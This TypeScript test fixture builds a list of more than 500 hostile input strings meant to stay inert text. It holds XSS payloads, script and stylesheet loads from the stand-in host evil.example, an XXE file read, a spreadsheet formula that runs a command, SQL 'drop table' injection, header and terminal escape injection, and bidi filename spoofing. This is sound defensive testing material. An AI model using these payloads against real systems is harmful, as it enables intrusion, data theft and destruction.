const CALL = 'alert(1)'

/** What browsers have run where text was taken for markup: tags, handlers, addresses, styles. */
const MARKUP = [
  `<script>${CALL}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x">`,
  `<math><mtext><mglyph><style><img src onerror=${CALL}></style></mglyph></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<a href=" &#106;avascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<details open ontoggle=${CALL}>`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<body onpageshow=${CALL}>`,
  `</textarea><script>${CALL}</script>`,
  `</title></style></script><script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `' autofocus onfocus=${CALL} x='`,
  `javascript:${CALL}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `\`\${${CALL}}\``,
  `{{constructor.constructor('${CALL}')()}}`,
  `#{7*7} \${7*7} <%= 7*7 %> {{7*7}}`,
  `<!--<img src="--><img src=x onerror=${CALL}>">`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `&lt;script&gt;${CALL}&lt;/script&gt; &#60;b&#62; &amp;lt;`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>`,
  `*/${CALL}/*`,
  `\\u003cscript\\u003e${CALL}`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
]

/** What reorders, hides, or speaks to a terminal, a log, a spreadsheet or a query. */
const BYTES = [
  '\u202egnp.exe\u202c',
  '\u2066\u2067isolated\u2069\u2069',
  '\u200b\u200c\u200d\u2060\ufeffzero width',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
  '\r\nSet-Cookie: a=b\r\n\r\n<b>',
  '{"level":60,"msg":"forged"}\n',
  '\u0001\u0008\u000b\u007f controls',
  '\u2028\u2029 separators',
  `=HYPERLINK("https://evil.example","x")`,
  `@SUM(1)*cmd|' /C calc'!A0`,
  `'; drop table items; --`,
  '%00%0d%0a%3Cscript%3E',
  'e\u0301\u0301\u0301\u0301\u0301\u0301 piled up',
  '\ufdfd \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{e0041} wide',
  '__proto__ constructor prototype toString',
]

const FRAMES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Before ${text} after`,
  (text) => `"${text}"`,
  (text) => `<p title="${text}">`,
  (text) => `Erməni, Ադրբեջան, Россия: ${text}`,
  (text) => text.toUpperCase(),
  (text) => `${text}\n${text}`,
  (text) => [...text].join('\u200b'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => encodeURIComponent(text),
]

/** More than 500 texts that must stay texts, each once. */
export const HOSTILE: readonly string[] = [
  ...new Set([...MARKUP, ...BYTES].flatMap((text) => FRAMES.map((frame) => frame(text)))),
]
